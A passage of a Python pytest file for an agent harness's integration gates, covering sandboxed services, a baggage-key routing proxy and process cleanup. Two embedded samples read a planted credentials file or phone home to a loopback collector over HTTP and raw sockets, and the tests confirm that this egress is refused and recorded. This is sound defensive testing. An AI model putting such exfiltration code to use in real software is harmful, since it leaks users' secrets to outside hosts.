"""Integration gates, local backend: changed services from the diff, the routing layer on the
baggage routing key, and examples/mesh run for real (bubblewrap, git worktrees, HTTP on
127.0.0.1): one shared baseline, sandboxes of only the changed services, no leaks."""

from __future__ import annotations

import json
import shutil
import socket
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import REPO_ROOT, commit_files, init_repo, worktree_count

from harness.config.policy import GateConfig
from harness.config.spec import Spec, load_spec
from harness.errors import InputError
from harness.gates.runner import GateEnvironment, GateRunner, GateSetupError
from harness.integration.changes import changed_services
from harness.integration.config import IntegrationConfig, ServiceMap
from harness.integration.gate import IntegrationGates
from harness.integration.local import LocalIntegration, TaskFork
from harness.integration.routing import ROUTE_HEADER, RoutingLayer
from harness.integration.routing_key import key_from_headers, routing_headers, routing_key
from harness.integration.servicemap import load_service_map
from harness.sandbox.local import WorktreeSandbox

CONFIG = IntegrationConfig(services_file="harness-services.yaml", ready_timeout_s=20)
INTEGRATION = GateConfig(name="integration", kind="integration", command="false", timeout_s=120)
PRICING = "mesh/pricing.py"
BASE_TOTAL = "return unit_cents * quantity\n"


# --- the mesh example in a throwaway repository ------------------------------------------------


@dataclass
class Mesh:
    root: Path

    @property
    def repo(self) -> Path:
        return self.root / "mesh"

    def spec(self, spec_id: str, **front: Any) -> Spec:
        meta = {"id": spec_id, "title": spec_id, "tier": 1, "repo": "../mesh", **front}
        path = self.root / "specs" / f"{spec_id}.md"
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"---\n{yaml.safe_dump(meta)}---\nChange the mesh.\n", "utf-8")
        return load_spec(path)

    def sandbox(
        self, spec: Spec, edits: dict[str, tuple[str, str]] | None = None
    ) -> WorktreeSandbox:
        """A task worktree with `edits` (path: (old, new)) committed."""
        run = self.root / "runs" / "r1"
        box = WorktreeSandbox.provision(
            spec, f"harness/r1/{spec.id}", run / "worktrees" / spec.id, run / "scratch" / spec.id
        )
        for relpath, (old, new) in (edits or {}).items():
            text = box.read(relpath)
            assert old in text, (relpath, old)
            box.write(relpath, text.replace(old, new))
        box.worktree.commit_all("change")
        return box


def _copy_mesh(root: Path) -> Mesh:
    shutil.copytree(
        REPO_ROOT / "examples" / "mesh",
        root / "mesh",
        ignore=shutil.ignore_patterns("__pycache__", ".mypy_cache", ".pytest_cache"),
    )
    init_repo(root / "mesh")
    return Mesh(root)


@pytest.fixture
def mesh(tmp_path: Path) -> Mesh:
    return _copy_mesh(tmp_path)


def gates_for(
    services: LocalIntegration,
    mesh: Mesh,
    spec: Spec,
    box: WorktreeSandbox,
    config: IntegrationConfig = CONFIG,
) -> IntegrationGates:
    run = mesh.root / "runs" / "r1"
    return IntegrationGates(
        services, spec, box, config, run_id="r1", run_dir=run, log_dir=run / "tasks" / spec.id
    )


def get(url: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
    request = urllib.request.Request(url, headers=headers or {})
    with urllib.request.urlopen(request, timeout=30) as response:
        body: dict[str, Any] = json.load(response)
    return body


def fork_of(
    services: LocalIntegration, mesh: Mesh, spec: Spec, config: IntegrationConfig = CONFIG
) -> TaskFork:
    """The task's sandbox as its integration gate reaches it: `sandbox()` returns the one the
    gate's `prepare` made (and over the baseline it made it on); a fork never started means
    the gate never prepared one."""
    service_map = load_service_map(spec, config)
    assert service_map is not None
    run = mesh.root / "runs" / "r1"
    fork = services.fork(spec, service_map, config, key=routing_key("r1", spec.id), run_dir=run)
    assert fork.starts > 0, f"no sandbox for {spec.id}: its gate never prepared one"
    return fork


def keyed(env: GateEnvironment) -> dict[str, str]:
    return {"baggage": env.env["HARNESS_BAGGAGE"]}


# --- changed services, the service map, the routing key ------------------------------------------


def test_changed_services_are_those_whose_paths_the_committed_diff_touches(mesh: Mesh) -> None:
    spec = mesh.spec("changes")
    service_map = load_service_map(spec, CONFIG)
    assert service_map is not None
    box = mesh.sandbox(spec)
    try:

        def changed() -> list[str]:
            found = changed_services(service_map, box.worktree, spec.base_commit)
            return [s.name for s in found]

        assert changed() == []
        box.write("README.md", "docs only\n")
        box.worktree.commit_all("docs")
        assert changed() == []
        box.write(PRICING, box.read(PRICING) + "\n# changed\n")
        assert changed() == []  # not committed yet: gates judge commits
        box.worktree.commit_all("pricing")
        assert changed() == ["pricing"]
        box.write("mesh/service.py", box.read("mesh/service.py") + "\n# shared\n")
        box.worktree.commit_all("shared module")
        assert changed() == ["front", "catalog", "pricing"]
    finally:
        box.teardown()


def test_the_service_map_comes_from_the_base_commit(mesh: Mesh) -> None:
    spec = mesh.spec("map")
    loaded = load_service_map(spec, CONFIG)
    assert loaded is not None
    assert [s.name for s in loaded.services] == ["front", "catalog", "pricing"]
    assert loaded.get("front").calls == {"CATALOG_URL": "catalog", "PRICING_URL": "pricing"}
    # An uncommitted edit to the file is not what the baseline runs: it is ignored.
    (mesh.repo / "harness-services.yaml").write_text("services: []\n", "utf-8")
    assert load_service_map(spec, CONFIG) == loaded
    assert load_service_map(spec, IntegrationConfig(services_file="none.yaml")) is None
    assert load_service_map(spec, IntegrationConfig()) is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("services: [", "not valid YAML"),
        ("- a list\n", "a YAML mapping"),
        ("services:\n  - {name: a, paths: [a], command: x, calls: {B_URL: b}}\n", "calls b"),
        ("services:\n  - {name: Bad_Name, paths: [a], command: x}\n", "services.0.name"),
    ],
)
def test_a_bad_service_map_is_one_line_naming_the_file(mesh: Mesh, text: str, says: str) -> None:
    commit_files(mesh.repo, {"bad.yaml": text})
    with pytest.raises(InputError) as caught:
        load_service_map(mesh.spec("bad"), IntegrationConfig(services_file="bad.yaml"))
    message = str(caught.value)
    assert "bad.yaml" in message and says in message and "\n" not in message


def test_inline_map_and_services_file_together_are_refused() -> None:
    inline = {"services": [{"name": "a", "paths": ["a"], "command": "x"}]}
    with pytest.raises(ValueError, match="not both"):
        IntegrationConfig.model_validate({"services": inline, "services_file": "s.yaml"})


def test_integration_commands_come_from_the_spec_else_the_map(mesh: Mesh) -> None:
    services = LocalIntegration()
    policy = [GateConfig(name="tests", kind="test", command="pytest -q"), INTEGRATION]
    plain = mesh.spec("plain")
    box = mesh.sandbox(plain)
    try:
        from_map = gates_for(services, mesh, plain, box).gates(policy)
        assert [(g.name, g.command) for g in from_map] == [
            ("tests", "pytest -q"),
            ("integration", "pytest -q integration"),
        ]
        own = mesh.spec("own", integration=["pytest -q integration/a.py", "./smoke.sh"])
        from_spec = gates_for(services, mesh, own, box).gates(policy)
        assert [(g.name, g.command, g.timeout_s) for g in from_spec[1:]] == [
            ("integration-1", "pytest -q integration/a.py", 120),
            ("integration-2", "./smoke.sh", 120),
        ]
    finally:
        box.teardown()


def test_routing_keys_are_dns_labels_and_distinct() -> None:
    keys = {routing_key("20261122-101010-ab12", f"spec-{n}") for n in range(50)}
    keys.add(routing_key("R" * 64, "Spec.With_Odd.CHARS" * 5))
    assert len(keys) == 51
    for key in keys:
        assert len(key) <= 63 and key == key.lower()
        assert key[0].isalnum() and key[-1].isalnum()
        assert set(key) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")


def test_routing_headers_round_trip_through_baggage_and_tracestate() -> None:
    headers = routing_headers("harness-routing-key", "r1-spec-1234")
    assert headers["baggage"] == "harness-routing-key=r1-spec-1234"
    assert headers["tracestate"] == "harness=r1-spec-1234"
    assert key_from_headers(headers, "harness-routing-key") == "r1-spec-1234"
    # Either header is enough; baggage wins; other members and properties are ignored.
    tracestate_only = {k: v for k, v in headers.items() if k != "baggage"}
    assert key_from_headers(tracestate_only, "harness-routing-key") == "r1-spec-1234"
    mixed = {"baggage": "user=1, harness-routing-key=k2;ttl=3, x=y"}
    assert key_from_headers(mixed, "harness-routing-key") == "k2"
    assert key_from_headers({"baggage": "user=1"}, "harness-routing-key") is None
    assert key_from_headers({"tracestate": "harness=k3"}, "k") is None  # no traceparent


# --- the routing layer, with real HTTP servers -------------------------------------------------


class _Upstream(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def __init__(self, name: str) -> None:
        self.name = name
        self.bodies: list[bytes] = []

        outer = self

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(b"")

            def do_POST(self) -> None:
                self._answer(self.rfile.read(int(self.headers["Content-Length"])))

            def _answer(self, body: bytes) -> None:
                outer.bodies.append(body)
                payload = json.dumps({"name": outer.name, "body": body.decode()}).encode()
                self.send_response(201 if body else 200)
                self.send_header("Content-Length", str(len(payload)))
                self.send_header("X-Upstream", outer.name)
                self.end_headers()
                self.wfile.write(payload)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Answer)
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def close(self) -> None:
        self.shutdown()
        self.server_close()


@pytest.fixture
def layer() -> Iterator[tuple[RoutingLayer, dict[str, _Upstream]]]:
    upstreams = {name: _Upstream(name) for name in ("base", "sandbox-a", "sandbox-b", "other")}
    routing = RoutingLayer("harness-routing-key")
    routing.add_service("svc")
    routing.add_service("db")
    routing.set_baseline("svc", upstreams["base"].port)
    routing.set_baseline("db", upstreams["other"].port)
    yield routing, upstreams
    routing.close()
    for upstream in upstreams.values():
        upstream.close()


def _through(routing: RoutingLayer, headers: dict[str, str], service: str = "svc") -> str:
    request = urllib.request.Request(routing.url(service) + "/x", headers=headers)
    with urllib.request.urlopen(request, timeout=10) as response:
        name: str = json.load(response)["name"]
        assert response.headers["X-Upstream"] == name
    return name


def test_requests_route_by_the_baggage_key(
    layer: tuple[RoutingLayer, dict[str, _Upstream]],
) -> None:
    routing, upstreams = layer
    routing.register("key-a", {"svc": upstreams["sandbox-a"].port})
    routing.register("key-b", {"svc": upstreams["sandbox-b"].port})
    assert _through(routing, {"baggage": "harness-routing-key=key-a"}) == "sandbox-a"
    assert _through(routing, {"baggage": "x=1,harness-routing-key=key-b"}) == "sandbox-b"
    assert _through(routing, dict(routing_headers("harness-routing-key", "key-a"))) == "sandbox-a"
    assert _through(routing, {}) == "base"
    assert _through(routing, {"baggage": "harness-routing-key=unknown"}) == "base"
    assert _through(routing, {"baggage": "other-key=key-a"}) == "base"
    # key-a runs no sandboxed db: its requests to db reach the baseline's.
    assert _through(routing, {"baggage": "harness-routing-key=key-a"}, "db") == "other"
    routing.unregister("key-a")
    assert _through(routing, {"baggage": "harness-routing-key=key-a"}) == "base"
    assert _through(routing, {"baggage": "harness-routing-key=key-b"}) == "sandbox-b"


def test_the_proxy_passes_method_body_status_and_says_where_it_went(
    layer: tuple[RoutingLayer, dict[str, _Upstream]],
) -> None:
    routing, upstreams = layer
    routing.register("key-a", {"svc": upstreams["sandbox-a"].port})
    request = urllib.request.Request(
        routing.url("svc") + "/orders?x=1",
        data=b'{"qty": 3}',
        headers={"baggage": "harness-routing-key=key-a", "Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        assert response.status == 201
        assert response.headers[ROUTE_HEADER] == "sandbox key-a"
        assert json.load(response) == {"name": "sandbox-a", "body": '{"qty": 3}'}
    with urllib.request.urlopen(routing.url("svc"), timeout=10) as response:
        assert response.headers[ROUTE_HEADER] == "baseline"


def test_a_dead_sandbox_instance_is_a_502_naming_it(
    layer: tuple[RoutingLayer, dict[str, _Upstream]],
) -> None:
    routing, _ = layer
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        dead = int(probe.getsockname()[1])
    routing.register("key-a", {"svc": dead})
    with pytest.raises(urllib.error.HTTPError) as caught:
        _through(routing, {"baggage": "harness-routing-key=key-a"})
    assert caught.value.code == 502
    assert "svc (sandbox key-a" in caught.value.read().decode()


def test_routes_change_safely_under_concurrent_traffic(
    layer: tuple[RoutingLayer, dict[str, _Upstream]],
) -> None:
    routing, upstreams = layer
    stop = threading.Event()

    def churn() -> None:
        while not stop.wait(0.001):
            routing.register("key-b", {"svc": upstreams["sandbox-b"].port})
            routing.unregister("key-b")

    churner = threading.Thread(target=churn)
    churner.start()
    routing.register("key-a", {"svc": upstreams["sandbox-a"].port})
    try:
        with ThreadPoolExecutor(max_workers=16) as pool:
            keyed = [
                pool.submit(_through, routing, {"baggage": "harness-routing-key=key-a"})
                for _ in range(40)
            ]
            plain = [pool.submit(_through, routing, {}) for _ in range(40)]
            assert {f.result() for f in keyed} == {"sandbox-a"}
            assert {f.result() for f in plain} == {"base"}
    finally:
        stop.set()
        churner.join()


# --- the local backend end to end, on examples/mesh ------------------------------------------


def _proc_table() -> dict[int, tuple[int, str]]:
    """pid -> (parent pid, state) of every process on the host."""
    table: dict[int, tuple[int, str]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            fields = stat[stat.rindex(")") + 2 :].split()
            table[int(entry.name)] = (int(fields[1]), fields[0])
    return table


def process_trees(fork: TaskFork) -> set[int]:
    """Every live process started for a task's sandbox and its baseline (bubblewrap, the
    shell, the service itself), found by parentage on the host."""
    stacks = [fork.processes, fork.baseline.processes]
    roots = {process.process.pid for processes in stacks for process in processes.values()}
    table = _proc_table()
    found, frontier = set(), set(roots)
    while frontier:
        found |= frontier
        frontier = {pid for pid, (ppid, _) in table.items() if ppid in frontier} - found
    return {pid for pid in found if pid in table and table[pid][1] != "Z"}


def alive(pids: set[int]) -> set[int]:
    table = _proc_table()
    return {pid for pid in pids if pid in table and table[pid][1] != "Z"}


def refuses(url: str) -> bool:
    try:
        urllib.request.urlopen(url, timeout=5)
    except urllib.error.URLError as exc:
        return isinstance(exc.reason, ConnectionRefusedError)
    return False


@dataclass
class Stack:
    mesh: Mesh
    services: LocalIntegration
    boxes: dict[str, WorktreeSandbox]
    envs: dict[str, GateEnvironment]
    forks: dict[str, TaskFork]
    baseline_pids: set[int]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """One baseline and two sandboxes at once, each with its own change to pricing (the
    deepest service): a's totals are one cent less, b's two."""
    mesh = _copy_mesh(tmp_path_factory.mktemp("stack"))
    services = LocalIntegration()
    boxes: dict[str, WorktreeSandbox] = {}
    envs: dict[str, GateEnvironment] = {}
    forks: dict[str, TaskFork] = {}
    try:
        for name, cents in (("a", 1), ("b", 2)):
            spec = mesh.spec(f"task-{name}")
            edit = (BASE_TOTAL, f"return unit_cents * quantity - {cents}\n")
            boxes[name] = mesh.sandbox(spec, {PRICING: edit})
            envs[name] = gates_for(services, mesh, spec, boxes[name]).prepare(INTEGRATION)
            forks[name] = fork_of(services, mesh, spec)
        baseline = forks["a"].baseline
        assert forks["b"].baseline is baseline  # one baseline, shared by both sandboxes
        pids = {p.process.pid for p in baseline.processes.values()}
        yield Stack(mesh, services, boxes, envs, forks, pids)
    finally:
        services.stop()
        for box in boxes.values():
            box.teardown()


def test_an_integration_gate_gets_the_key_the_headers_and_the_urls(stack: Stack) -> None:
    env = stack.envs["a"]
    assert env.not_applicable is None
    # Exactly the routing layer's ports are bridged into the gate's own network namespace.
    assert env.egress is not None and env.egress.proxy is None
    baseline = stack.forks["a"].baseline
    ports = sorted(
        int(baseline.routing.url(n).rsplit(":", 1)[1]) for n in ("front", "catalog", "pricing")
    )
    assert sorted(env.egress.ports) == ports
    key = env.env["HARNESS_ROUTING_KEY"]
    assert key == routing_key("r1", "task-a") != stack.envs["b"].env["HARNESS_ROUTING_KEY"]
    assert env.env["HARNESS_BAGGAGE"] == f"harness-routing-key={key}"
    assert env.env["HARNESS_TRACESTATE"] == f"harness={key}"
    assert env.env["HARNESS_SANDBOXED"] == "pricing"
    baseline = stack.forks["a"].baseline
    for name in ("front", "catalog", "pricing"):
        assert env.env[f"HARNESS_URL_{name.upper()}"] == baseline.routing.url(name)
    # Only the changed service runs in the sandbox.
    assert list(stack.forks["a"].processes) == ["pricing"]


def test_keyed_requests_reach_the_sandboxed_deepest_service_plain_ones_the_baseline(
    stack: Stack,
) -> None:
    front = stack.envs["a"].env["HARNESS_URL_FRONT"]
    key = stack.envs["a"].env["HARNESS_ROUTING_KEY"]
    with ThreadPoolExecutor(max_workers=8) as pool:
        with_key = [
            pool.submit(get, f"{front}/quote/MUG?qty=2", keyed(stack.envs["a"])) for _ in range(4)
        ]
        without = [pool.submit(get, f"{front}/quote/MUG?qty=2") for _ in range(4)]
        keyed_quotes = [f.result() for f in with_key]
        plain_quotes = [f.result() for f in without]
    for quote in keyed_quotes:
        assert quote["total_cents"] == 2499
        assert quote["served_by"] == [
            "front@baseline",
            "catalog@baseline",
            f"pricing@{key}",
            f"pricing@{key}",
        ]
    for quote in plain_quotes:
        assert quote["total_cents"] == 2500
        assert quote["served_by"] == [
            "front@baseline",
            "catalog@baseline",
            "pricing@baseline",
            "pricing@baseline",
        ]


def test_two_sandboxes_on_one_baseline_do_not_see_each_other(stack: Stack) -> None:
    front = stack.envs["a"].env["HARNESS_URL_FRONT"]
    assert stack.envs["b"].env["HARNESS_URL_FRONT"] == front  # one shared baseline
    with ThreadPoolExecutor(max_workers=12) as pool:
        futures = {
            name: [
                pool.submit(get, f"{front}/quote/PEN?qty=3", keyed(stack.envs[name]))
                for _ in range(6)
            ]
            for name in ("a", "b")
        }
        answers = {name: [f.result() for f in found] for name, found in futures.items()}
    for name, cents in (("a", 1), ("b", 2)):
        key = stack.envs[name].env["HARNESS_ROUTING_KEY"]
        for quote in answers[name]:
            assert quote["total_cents"] == 297 - cents
            assert {hop for hop in quote["served_by"] if hop.startswith("pricing@")} == {
                f"pricing@{key}"
            }


def test_the_baseline_starts_once_and_sandboxes_restart_on_each_gate_run(stack: Stack) -> None:
    spec = load_spec(stack.mesh.root / "specs" / "task-a.md")
    task = stack.forks["a"]
    before = {p.process.pid for p in task.processes.values()}
    starts = task.starts
    gates = gates_for(stack.services, stack.mesh, spec, stack.boxes["a"])
    env = gates.prepare(INTEGRATION)
    # The same sandbox over the same baseline (a new baseline would have made a new one).
    assert fork_of(stack.services, stack.mesh, spec) is task
    assert task.starts == starts + 1
    assert not alive(before)  # the old instance is gone, a new one answers
    assert {p.process.pid for p in task.processes.values()}.isdisjoint(before)
    assert env.env["HARNESS_ROUTING_KEY"] == stack.envs["a"].env["HARNESS_ROUTING_KEY"]
    baseline = task.baseline
    assert {p.process.pid for p in baseline.processes.values()} == stack.baseline_pids
    assert get(f"{env.env['HARNESS_URL_FRONT']}/quote/TEA?qty=1", keyed(env))["total_cents"] == 474


def test_the_integration_gate_runs_the_map_tests_and_reports_failures_as_problems(
    stack: Stack,
) -> None:
    """Sandbox a's change breaks the mesh's own integration test that prices through front:
    the gate fails with the failing test's id, for the agent to fix."""
    spec = load_spec(stack.mesh.root / "specs" / "task-a.md")
    box = stack.boxes["a"]
    gates = gates_for(stack.services, stack.mesh, spec, box)
    [gate] = gates.gates([INTEGRATION])
    runner = GateRunner(box, log_dir=stack.mesh.root / "logs", instance="t", prepare=gates.prepare)
    record, problems = runner.run_once(gate, attempt=1, phase="attempt")
    assert (record.command, record.exit_code, record.passed) == ("pytest -q integration", 1, False)
    assert record.counts == {"failed": 1, "passed": 1}, record.excerpt
    assert record.setup_s > 0
    assert [p.test_id for p in problems] == [
        "integration/test_routing.py::test_a_quote_names_the_product_and_prices_it"
    ]
    assert problems[0].category == "agent_fixable" and "474" in problems[0].detail


EXFILTRATE = """
import json, os, socket, urllib.request
request = urllib.request.Request(
    os.environ["HARNESS_URL_FRONT"] + "/quote/TEA?qty=1",
    headers={{"baggage": os.environ["HARNESS_BAGGAGE"]}},
)
print("routed:", json.load(urllib.request.urlopen(request, timeout=30))["name"])
secret = open("planted-credentials").read()
try:
    urllib.request.urlopen("http://127.0.0.2:{port}/steal", data=secret.encode(), timeout=10)
    print("posted")
except Exception as exc:
    print("post refused:", exc)
try:
    socket.create_connection(("127.0.0.2", {port}), timeout=5).sendall(secret.encode())
    print("raw sent")
except OSError as exc:
    print("raw refused:", exc.strerror)
"""


def test_an_integration_test_cannot_exfiltrate_and_its_attempt_is_recorded(mesh: Mesh) -> None:
    """An agent-written integration test posts a planted secret to a loopback server that is
    not a routed service: refused, nothing arrives, and the gate fails on a recorded denial
    the agent reads; the same test's call to the routed service works."""
    received: list[bytes] = []

    class Collector(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(self.rfile.read(int(self.headers["Content-Length"] or 0)))
            self.send_response(200)
            self.end_headers()

    collector = ThreadingHTTPServer(("127.0.0.2", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    port = collector.server_address[1]
    spec = mesh.spec("exfil", integration=["python exfiltrate.py"])
    box = mesh.sandbox(spec)
    box.write("exfiltrate.py", EXFILTRATE.format(port=port))
    box.write("planted-credentials", "aws_secret_access_key = planted-0123456789\n")
    box.worktree.commit_all("an integration test that phones home")
    services = LocalIntegration()
    try:
        gates = gates_for(services, mesh, spec, box)
        [gate] = gates.gates([INTEGRATION])
        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
        record, problems = runner.run_once(gate, attempt=1, phase="attempt")
    finally:
        services.stop()
        box.teardown()
        collector.shutdown()
        collector.server_close()

    assert record.exit_code == 0 and not record.passed  # the script went on; the gate did not
    output = (mesh.root / "logs" / "attempt-1-integration.log").read_text()
    assert "routed: Green tea, 100 g" in output
    assert "post refused: HTTP Error 403" in output
    assert "raw refused: Connection refused" in output
    assert received == []
    assert record.egress_refused == [f"POST 127.0.0.2:{port}"]
    [problem] = problems
    assert problem.type.endswith("egress-refused") and problem.category == "agent_fixable"
    assert f"tried to reach 127.0.0.2:{port}; egress is refused" in problem.title
    assert "HARNESS_URL_" in problem.detail


PHONE_HOME = """
def _phone_home() -> None:
    import socket, urllib.request
    try:
        urllib.request.urlopen("http://127.0.0.2:{port}/steal", data=b"from-pricing", timeout=10)
    except Exception as exc:
        print("pricing post refused:", exc, flush=True)
    try:
        socket.create_connection(("127.0.0.2", {port}), timeout=5).sendall(b"raw")
    except OSError as exc:
        print("pricing raw refused:", exc.strerror, flush=True)


_phone_home()

if __name__ == "__main__":"""


def test_a_changed_service_reaches_only_the_routing_layer_and_its_attempts_fail_the_gate(
    mesh: Mesh,
) -> None:
    """The task's pricing (the agent's code, run as a service) posts to a loopback server at
    start: refused, nothing arrives, and the gate fails on the recorded denial though the
    mesh's own tests pass through it; the routing layer still reaches it."""
    received: list[bytes] = []

    class Collector(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(self.rfile.read(int(self.headers["Content-Length"] or 0)))
            self.send_response(200)
            self.end_headers()

    collector = ThreadingHTTPServer(("127.0.0.2", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    port = collector.server_address[1]
    spec = mesh.spec("phone-home")
    box = mesh.sandbox(
        spec, {PRICING: ('\nif __name__ == "__main__":', PHONE_HOME.format(port=port))}
    )
    services = LocalIntegration()
    try:
        gates = gates_for(services, mesh, spec, box)
        [gate] = gates.gates([INTEGRATION])
        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
        record, problems = runner.run_once(gate, attempt=1, phase="attempt")
        pricing_log = fork_of(services, mesh, spec).processes["pricing"].log.read_text()
    finally:
        services.stop()
        box.teardown()
        collector.shutdown()
        collector.server_close()

    assert record.exit_code == 0 and record.counts == {"passed": 2}, record.excerpt
    assert not record.passed
    assert received == []
    assert "pricing post refused: HTTP Error 403" in pricing_log
    assert "pricing raw refused: Connection refused" in pricing_log
    assert record.egress_refused == [f"POST 127.0.0.2:{port}"]
    assert [p.code for p in problems] == ["egress-refused"]


def test_a_changed_service_that_crashes_fails_the_gate_with_its_traceback(mesh: Mesh) -> None:
    """The baseline runs pricing fine from the base commit; the task's pricing exits at start.
    The change broke it: the gate fails (charged to the attempt) with the traceback as
    problems the agent can act on, not an infrastructure escalation."""
    spec = mesh.spec("crash")
    crash = ("UNIT_CENTS = {", 'raise RuntimeError("pricing table unreadable")\nUNIT_CENTS = {')
    box = mesh.sandbox(spec, {PRICING: crash})
    services = LocalIntegration()
    try:
        gates = gates_for(services, mesh, spec, box)
        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
        record, problems = runner.run_once(INTEGRATION, attempt=1, phase="attempt")
        assert not record.passed and record.exit_code == 1
        assert not record.infrastructure_failure and record.setup_failure is None
        assert problems and all(p.category == "agent_fixable" for p in problems)
        assert any("pricing table unreadable" in p.detail for p in problems)
        [problem] = problems
        assert (problem.code, problem.location and problem.location.path) == (
            "RuntimeError",
            "mesh/pricing.py",
        )
        assert problem.location.line == 8
        # The service's output is the gate's log, like any gate's.
        log = (mesh.root / "logs" / "attempt-1-integration.log").read_text(encoding="utf-8")
        assert "service 'pricing'" in log and "exited with code 1" in log
        assert "RuntimeError: pricing table unreadable" in log
        # The baseline is untouched and still serves.
        fork = fork_of(services, mesh, spec)
        assert get(fork.baseline.routing.url("front") + "/quote/MUG")["total_cents"] == 1250
        assert fork.processes == {}
    finally:
        services.stop()
        box.teardown()


def test_a_baseline_service_that_crashes_is_an_infrastructure_problem(mesh: Mesh) -> None:
    """The same crash at the base commit: nothing the agent did; a person must act."""
    text = (mesh.repo / PRICING).read_text(encoding="utf-8")
    broken = text.replace("UNIT_CENTS = {", 'raise RuntimeError("no table")\nUNIT_CENTS = {', 1)
    commit_files(mesh.repo, {PRICING: broken}, "break pricing at base")
    spec = mesh.spec("base-crash")
    box = mesh.sandbox(spec)
    services = LocalIntegration()
    try:
        gates = gates_for(services, mesh, spec, box)
        with pytest.raises(GateSetupError) as caught:
            gates.prepare(INTEGRATION)
        assert "(baseline)" in caught.value.title and "exited with code 1" in caught.value.title
        assert "RuntimeError: no table" in caught.value.detail
        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
        record, [problem] = runner.run_once(INTEGRATION, attempt=1, phase="attempt")
        assert record.infrastructure_failure and record.ending == "setup failed"
        assert (problem.category, problem.owner_action_required) == ("infrastructure", True)
    finally:
        services.stop()
        box.teardown()


def test_a_service_that_never_gets_healthy_times_out_with_its_log(mesh: Mesh) -> None:
    slow = ServiceMap.model_validate(
        {
            "services": [
                {"name": "slow", "paths": ["slow"], "command": "echo booting; exec sleep 60"}
            ]
        }
    )
    config = IntegrationConfig(services=slow, ready_timeout_s=0.5)
    spec = mesh.spec("slow")
    box = mesh.sandbox(spec)
    services = LocalIntegration()
    try:
        with pytest.raises(GateSetupError) as caught:
            gates_for(services, mesh, spec, box, config).prepare(INTEGRATION)
        assert (
            "'slow' (baseline) did not answer /health with 2xx within 0.5 s" in caught.value.title
        )
        assert "booting" in caught.value.detail
        # Not kept: the baseline that never got healthy was stopped and its worktree removed.
        services_dir = mesh.root / "runs" / "r1" / "services"
        assert list(services_dir.glob("baseline-*/logs/slow.log"))  # it did start
        assert not list(services_dir.glob("baseline-*/tree"))
        # The failure is remembered: the next task fails at once rather than retrying it.
        with pytest.raises(GateSetupError, match=r"within 0\.5 s"):
            gates_for(services, mesh, spec, box, config).prepare(INTEGRATION)
    finally:
        services.stop()
        box.teardown()


def test_a_repository_without_a_service_map_passes_as_not_applicable(mesh: Mesh) -> None:
    spec = mesh.spec("no-map")
    box = mesh.sandbox(spec)
    services = LocalIntegration()
    try:
        gates = gates_for(services, mesh, spec, box, IntegrationConfig(services_file="absent.yaml"))
        assert gates.gates([INTEGRATION]) == [INTEGRATION]
        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
        record, problems = runner.run_once(INTEGRATION, attempt=1, phase="attempt")
        assert (record.passed, record.exit_code, problems) == (True, None, [])
        assert record.not_applicable and "absent.yaml" in record.not_applicable
        assert record.ending == "not applicable"
        assert not (mesh.root / "logs").exists()  # nothing ran
        assert not (mesh.root / "runs" / "r1" / "services").exists()  # no baseline started
    finally:
        services.stop()
        box.teardown()


def test_a_runner_without_services_does_not_run_integration_gates_blind(mesh: Mesh) -> None:
    box = mesh.sandbox(mesh.spec("check"))
    try:
        record, _ = GateRunner(box, log_dir=mesh.root / "logs", instance="t").run_once(
            INTEGRATION, attempt=0, phase="check"
        )
        assert record.passed and record.not_applicable and record.exit_code is None
    finally:
        box.teardown()


def test_teardown_and_stop_leave_no_process_port_or_worktree(mesh: Mesh) -> None:
    spec = mesh.spec("leaks")
    box = mesh.sandbox(spec, {PRICING: (BASE_TOTAL, "return unit_cents * quantity + 1\n")})
    services = LocalIntegration()
    try:
        env = gates_for(services, mesh, spec, box).prepare(INTEGRATION)
        fork = fork_of(services, mesh, spec)
        baseline = fork.baseline
        assert worktree_count(mesh.repo) == 3  # the checkout, the task's, the baseline's
        pids = process_trees(fork)
        # bubblewrap (outer, inner), the shell and python for each of 3 + 1 services.
        assert len(pids) >= 4 * 3
        sandboxed = {p.process.pid for p in fork.processes.values()}
        sandboxed_tree = {pid for pid in pids if pid in sandboxed or _descends(pid, sandboxed)}
        urls = [env.env[f"HARNESS_URL_{n}"] for n in ("FRONT", "CATALOG", "PRICING")]
        ports = [p.port for p in baseline.processes.values()]

        services.release("leaks")  # teardown of the task: its services only
        assert not alive(sandboxed_tree)
        assert alive(pids - sandboxed_tree) == pids - sandboxed_tree
        assert get(urls[0] + "/quote/MUG", keyed(env))["served_by"][-1] == "pricing@baseline"

        services.stop()  # the run's end
        assert not alive(pids)
        assert all(refuses(url) for url in urls)
        assert all(refuses(f"http://127.0.0.1:{port}/health") for port in ports)
        assert worktree_count(mesh.repo) == 2
        assert not baseline.tree.exists()
    finally:
        services.stop()
        box.teardown()


def _descends(pid: int, roots: set[int]) -> bool:
